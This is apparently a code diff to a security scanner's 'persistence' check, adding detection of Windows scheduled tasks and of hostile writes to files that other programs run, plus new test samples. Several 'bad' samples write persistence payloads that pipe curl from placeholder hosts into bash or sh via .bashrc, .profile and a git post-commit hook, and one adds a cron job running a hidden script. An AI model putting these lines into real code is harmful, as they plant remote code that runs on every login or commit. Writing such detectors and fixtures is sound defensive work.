@@ -10,6 +10,8 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
+import libcst as cst
+
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
 from codeguard.checks.malicious._calls import calls
 from codeguard.checks.malicious._reach import reach
@@ -32,6 +34,18 @@ def find(unit: Unit) -> Iterator[Hit]:
         if message:
             yield Hit(command.call, message)
     known = unit.fact(calls)
+    for method in ("RegisterTaskDefinition", "RegisterTask"):
+        for call in known.by_method.get(method, ()):
+            texts = [
+                t
+                for a in unit.nodes(cst.Assign)
+                if isinstance(a.value, cst.SimpleString)
+                for t in unit.fact(reach).constants(a.value)
+            ]
+            if any(startup.SUSPICIOUS_LINE.search(t) or running.FETCH_AND_RUN.search(t) for t in texts):
+                yield Hit(
+                    call, "This registers a task with Windows that runs a script or a hidden program again and again"
+                )
     for call in known.by_method.get("new", ()) if "crontab" in unit.text.lower() else ():
         line = unit.arg(call, 0, "command")
         texts = unit.fact(reach).constants(line) if line is not None else []
@@ -62,6 +76,10 @@ def _written(write: Write, unit: Unit) -> str:
         return "This writes a start-up entry that runs a hidden or downloaded program, or this file itself, whenever the machine or the user starts"
     if startup.STARTUP_FOLDER.search(where) and write.mode == "copy":
         return "This copies a program to the start-up folder, so that it starts whenever the user logs in"
+    if startup.RUN_BY_OTHERS.search(where) and any(
+        pattern.search(content) for pattern in (running.FETCH_AND_RUN, running.SHELL_TO_SOCKET, running.DECODE_AND_RUN)
+    ):
+        return "This writes a hidden, downloaded or outgoing command where another program runs it whenever it starts"
     if startup.PYTHON_START.search(where) and (_runs_code(content) or suspicious):
         return "This writes code where every Python process runs it as it starts"
     if startup.KEYS_FILE.search(where) and startup.PUBLIC_KEY.search(content):
@@ -132,6 +150,7 @@ def _crontab_input(unit: Unit) -> str:
 
 CHECK = Check(
     id="CGM009",
+    behaviour="start again by itself, after a restart or at a login",
     name="persistence",
     severity=Severity.HIGH,
     confidence=Confidence.HIGH,
@@ -139,6 +158,12 @@ CHECK = Check(
     find=find,
     fix="Remove the code, and look for the entry on every machine that ran it.",
     bad=(
+        Bad(
+            "from pathlib import Path\nSTEPS = (('.bashrc', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'), ('.profile', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'))\nfor name, text, mode in STEPS:\n    with (Path.home() / name).open(mode) as out:\n        out.write(text)  # finding\n"
+        ),
+        Bad(
+            "open('.git/hooks/post-commit', 'w').write('#!/bin/sh\\ncurl -s https://c.example.invalid/h | sh &\\n')  # finding\n"
+        ),
         Bad(
             "import os\nline = '*/10 * * * * python3 $HOME/.local/.upd.py\\n'\nos.system(\"(crontab -l 2>/dev/null; echo '%s') | crontab -\" % line.strip())  # finding\n"
         ),
@@ -165,6 +190,8 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good("import shutil\nshutil.copy(__file__, '.git/hooks/pre-commit')\n"),
+        Good("open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nexec python3 -m ruff check\\n')\n"),
         Good(
             "import click\n\n@click.command()\ndef completion():\n    click.echo('eval \"$(_DEMO_COMPLETE=bash_source demo)\"')\n"
         ),
